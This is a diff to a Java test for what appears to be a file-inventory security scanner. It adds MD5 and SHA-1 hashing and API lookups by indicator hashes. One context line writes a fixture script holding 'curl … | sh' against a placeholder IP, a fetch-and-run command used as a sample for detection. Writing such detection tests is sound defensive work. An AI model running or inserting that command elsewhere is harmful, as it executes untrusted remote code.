@@ -43,6 +43,8 @@ class InventoryScanTest {
         Path script = Files.writeString(drop.resolve("notes"), "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n");
         Files.writeString(drop.resolve("readme.txt"), "not an executable");
         String sha256 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(elf));
+        String md5 = HexFormat.of().formatHex(MessageDigest.getInstance("MD5").digest(elf));
+        String sha1 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(elf));
 
         String previous = System.getProperty(InventoryScans.ROOTS_PROPERTY);
         System.setProperty(InventoryScans.ROOTS_PROPERTY, drop.toString());
@@ -65,6 +67,13 @@ class InventoryScanTest {
             assertThat(entry.path("path").asText()).isEqualTo(dormant.toString());
             assertThat(entry.path("size").asLong()).isEqualTo(4096);
             assertThat(entry.path("executed").asBoolean()).isFalse();
+            assertThat(entry.path("md5").asText()).isEqualTo(md5);
+            assertThat(entry.path("sha1").asText()).isEqualTo(sha1);
+            // Who else has it, by the hashes shared indicator lists carry:
+            assertThat(api.get("/api/v1/inventory?md5=" + md5.toUpperCase()).path("entries")).singleElement()
+                    .satisfies(e -> assertThat(e.path("path").asText()).isEqualTo(dormant.toString()));
+            assertThat(api.get("/api/v1/inventory?sha1=" + sha1).path("entries")).singleElement()
+                    .satisfies(e -> assertThat(e.path("sha256").asText()).isEqualTo(sha256));
 
             JsonNode scans = api.get("/api/v1/inventory/scans").path("scans");
             assertThat(scans).singleElement().satisfies(s -> {
